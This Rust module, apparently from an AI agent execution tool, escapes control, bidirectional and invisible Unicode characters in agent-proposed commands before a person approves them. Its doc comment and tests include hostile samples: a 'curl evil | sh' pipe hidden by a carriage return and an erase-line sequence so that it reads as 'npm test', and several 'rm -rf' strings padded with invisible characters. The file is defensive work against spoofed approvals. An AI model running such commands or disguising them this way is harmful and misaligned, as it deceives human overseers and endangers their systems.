//! Agent-supplied text rendered for a person: the one function every channel that shows an
//! action to a person goes through (`hands approvals list`, the daemon's stderr, `hands exec`'s
//! confirm prompt, the dashboard, the elicitation and input-required messages).
//!
//! A terminal obeys what it prints: a carriage return and `ESC [2K` rewrite the line, so
//! `curl evil | sh\r\x1b[2Knpm test` reads as `npm test`; an OSC sequence can set a title or a
//! link; a right-to-left override reorders what follows. Browsers and MCP clients honour the
//! bidirectional controls too, and draw nothing for a soft hyphen, a Hangul filler or a tag
//! character, so `rm -rf ~/x\u{ad}` or a path with a variation selector reads as another. So
//! every character that is not shown as itself is shown as an escape (`\r`, `\x1b`,
//! `\u{202e}`), and the result says whether any was: such an action's text says so ([`NOTE`]):
//! - every control character (C0, DEL, C1 — which covers ESC and so every CSI and OSC
//!   sequence, and CR);
//! - every format character (general category Cf, from `unicode-general-category`'s tables:
//!   bidirectional embeddings, overrides, isolates and marks, zero-width ones, the soft hyphen,
//!   tag characters, U+206A–U+206F, interlinear annotations, …);
//! - every default-ignorable code point that is not Cf (Unicode's
//!   `Default_Ignorable_Code_Point`: variation selectors U+FE00–FE0F and U+E0100–E01EF, the
//!   Mongolian ones U+180B–U+180F, the combining grapheme joiner, Hangul fillers U+115F, U+1160,
//!   U+3164, U+FFA0, Khmer's inherent vowels, and the code points reserved as ignorable);
//! - the line and paragraph separators (U+2028, U+2029), and every space but U+0020 (a
//!   no-break or ideographic space looks like a word boundary and is none), and U+2800, the
//!   blank Braille pattern.
//!
//! A newline and a tab are shown as `\n` and `\t` too (a newline could otherwise start a
//! forged `command:` line in a list), but they are ordinary in a script, so they alone do not
//! make the text "escaped". A backslash is shown as it is: what is shown is what runs, and the
//! note tells a real escape from a literal one. An argv is shown with its argument boundaries
//! ([`argv`]).

/// What an action whose text had to be escaped says.
pub const NOTE: &str = "(text contained control or invisible characters, shown escaped)";

/// Text made safe to show a person, and whether anything in it was not plain text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown {
    pub text: String,
    /// Something other than a newline or a tab was escaped.
    pub escaped: bool,
}

/// Characters a terminal, browser or client would act on, or draw as nothing, rather than show.
fn hidden(c: char) -> bool {
    use unicode_general_category::{GeneralCategory, get_general_category};
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    c.is_control()
        || c.is_whitespace()
        || default_ignorable(c)
        || matches!(
            get_general_category(c),
            GeneralCategory::Format
                | GeneralCategory::LineSeparator
                | GeneralCategory::ParagraphSeparator
        )
        || c == '\u{2800}'
}

/// Unicode's `Default_Ignorable_Code_Point` (DerivedCoreProperties.txt, stable since 5.2):
/// what a renderer draws as nothing when it does not know it.
fn default_ignorable(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{061C}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF0}'..='\u{FFF8}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E0FFF}'
    )
}

/// Renders `text` for a person (see the module's documentation).
pub fn shown(text: &str) -> Shown {
    if !text.chars().any(hidden) {
        return Shown { text: text.to_string(), escaped: false };
    }
    let mut out = String::with_capacity(text.len() + 16);
    let mut escaped = false;
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => {
                out.push_str("\\r");
                escaped = true;
            }
            c if c.is_control() && (c as u32) < 0x80 => {
                out.push_str(&format!("\\x{:02x}", c as u32));
                escaped = true;
            }
            c if hidden(c) => {
                out.push_str(&format!("\\u{{{:04x}}}", c as u32));
                escaped = true;
            }
            c => out.push(c),
        }
    }
    Shown { text: out, escaped }
}

/// An argv shown with its argument boundaries: each argument that is empty or holds
/// whitespace or a quote is written as a quoted string (`"a b"`, inner quotes and backslashes
/// escaped), the rest as they are, separated by single spaces — the form `hands exec`'s prompt
/// and the audit log use (`hands_shell::allow::show`) — then [`shown`]. A value that is not a
/// list of strings is shown as its JSON text.
pub fn argv(value: &serde_json::Value) -> Shown {
    let words: Option<Vec<String>> = value
        .as_array()
        .and_then(|items| items.iter().map(|i| i.as_str().map(str::to_string)).collect());
    match words {
        Some(words) => {
            // `show` writes a quoted argument's invisible characters as escapes already: the
            // note must still say that there were some.
            let mut s = shown(&hands_shell::allow::show(&words));
            s.escaped |=
                words.iter().any(|w| w.chars().any(|c| hidden(c) && c != '\n' && c != '\t'));
            s
        }
        None => shown(&value.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_is_unchanged_and_not_flagged() {
        let s = shown("npm test -- --grep 'a\\|b' é 日本");
        assert_eq!(s.text, "npm test -- --grep 'a\\|b' é 日本");
        assert!(!s.escaped);
    }

    #[test]
    fn a_line_rewrite_is_shown_escaped_and_flagged() {
        let s = shown("curl evil.sh | sh\r\x1b[2Knpm test");
        assert_eq!(s.text, "curl evil.sh | sh\\r\\x1b[2Knpm test");
        assert!(s.escaped);
        assert!(!s.text.contains('\r') && !s.text.contains('\x1b'));
    }

    #[test]
    fn osc_c1_and_del_are_escaped() {
        let s = shown("a\x1b]0;title\x07b\u{9b}2Kc\x7f");
        assert_eq!(s.text, "a\\x1b]0;title\\x07b\\u{009b}2Kc\\x7f");
        assert!(s.escaped);
    }

    #[test]
    fn bidirectional_controls_are_escaped() {
        for c in [
            '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
            '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}', '\u{061C}', '\u{2028}', '\u{200B}',
            '\u{FEFF}',
        ] {
            let s = shown(&format!("rm -rf {c}safe"));
            assert!(s.escaped, "{c:?}");
            assert!(!s.text.contains(c), "{c:?}");
            assert_eq!(s.text, format!("rm -rf \\u{{{:04x}}}safe", c as u32));
        }
    }

    /// Asserts `c` is shown as its escape, inside text, and flagged.
    fn assert_escaped(c: char) {
        let s = shown(&format!("rm -rf ~/x{c}y"));
        assert!(s.escaped, "U+{:04X} not flagged", c as u32);
        assert!(!s.text.contains(c), "U+{:04X} shown as itself", c as u32);
        assert_eq!(s.text, format!("rm -rf ~/x\\u{{{:04x}}}y", c as u32), "U+{:04X}", c as u32);
    }

    fn chars(from: u32, to: u32) -> impl Iterator<Item = char> {
        (from..=to).filter_map(char::from_u32)
    }

    #[test]
    fn every_invisible_or_reordering_range_is_escaped_whole() {
        let ranges: [(u32, u32); 20] = [
            (0x00AD, 0x00AD),   // soft hyphen
            (0x034F, 0x034F),   // combining grapheme joiner
            (0x061C, 0x061C),   // Arabic letter mark
            (0x115F, 0x1160),   // Hangul choseong and jungseong fillers
            (0x17B4, 0x17B5),   // Khmer inherent vowels
            (0x180B, 0x180F),   // Mongolian variation selectors and vowel separator
            (0x200B, 0x200F),   // zero-width space, joiners, LRM, RLM
            (0x2028, 0x202E),   // line and paragraph separators, bidi embeddings, overrides
            (0x2060, 0x206F),   // word joiner, invisible operators, isolates, U+206A-206F
            (0x3164, 0x3164),   // Hangul filler
            (0xFE00, 0xFE0F),   // variation selectors 1-16
            (0xFEFF, 0xFEFF),   // zero-width no-break space
            (0xFFA0, 0xFFA0),   // halfwidth Hangul filler
            (0xFFF0, 0xFFFB),   // reserved ignorables, interlinear annotation
            (0x1BCA0, 0x1BCA3), // shorthand format controls
            (0x1D173, 0x1D17A), // musical symbol format controls
            (0xE0000, 0xE007F), // tag characters
            (0xE0100, 0xE01EF), // variation selectors 17-256
            (0xE01F0, 0xE0FFF), // reserved ignorables
            (0x2800, 0x2800),   // blank Braille pattern
        ];
        let mut n = 0;
        for (from, to) in ranges {
            for c in chars(from, to) {
                assert_escaped(c);
                n += 1;
            }
        }
        assert!(n > 4000, "{n}");
    }

    #[test]
    fn every_format_character_and_every_space_but_the_ascii_one_is_escaped() {
        use unicode_general_category::{GeneralCategory, get_general_category};
        let mut format = 0;
        for c in chars(0x80, 0x10FFFF) {
            let cat = get_general_category(c);
            if cat == GeneralCategory::Format || c.is_whitespace() || c.is_control() {
                format += 1;
                let s = shown(&format!("a{c}b"));
                assert!(s.escaped && !s.text.contains(c), "U+{:04X} ({cat:?})", c as u32);
            }
        }
        assert!(format > 150, "{format}");
        for c in ['\u{A0}', '\u{2003}', '\u{202F}', '\u{3000}', '\u{1680}', '\u{85}'] {
            assert!(shown(&format!("rm{c}-rf")).escaped, "U+{:04X}", c as u32);
        }
    }

    #[test]
    fn visible_text_of_every_script_is_shown_as_itself() {
        for t in ["é ß 日本語 한국어 עברית العربية हिन्दी 🙂 ➜ ‘q’ — …", "ﾊﾝｶｸ ＡＢ", "a\\u{202e}b"]
        {
            let s = shown(t);
            assert_eq!(s.text, t);
            assert!(!s.escaped, "{t}");
        }
    }

    #[test]
    fn an_argv_keeps_its_argument_boundaries() {
        use serde_json::json;
        let one = argv(&json!(["rm", "-rf", "a b"]));
        let two = argv(&json!(["rm", "-rf", "a", "b"]));
        assert_eq!(one.text, "rm -rf \"a b\"");
        assert_eq!(two.text, "rm -rf a b");
        assert_ne!(one.text, two.text);
        assert_eq!(argv(&json!(["echo", "", "\"", "x\\\"y"])).text, r#"echo "" "\"" "x\\\"y""#);
        assert!(!one.escaped && !two.escaped);
        // Invisible characters inside an argument: escaped and flagged, quoted or not.
        let quoted = argv(&json!(["rm", "a\u{00A0}b"]));
        assert!(quoted.escaped && !quoted.text.contains('\u{00A0}'), "{quoted:?}");
        let bare = argv(&json!(["rm", "a\u{200B}b"]));
        assert_eq!(bare.text, "rm a\\u{200b}b");
        assert!(bare.escaped);
        // Not a list of strings: its JSON.
        assert_eq!(argv(&json!("rm -rf /")).text, "\"rm -rf /\"");
    }

    #[test]
    fn newlines_and_tabs_are_escaped_but_not_flagged() {
        let s = shown("make\n\tmake test");
        assert_eq!(s.text, "make\\n\\tmake test");
        assert!(!s.escaped);
    }
}
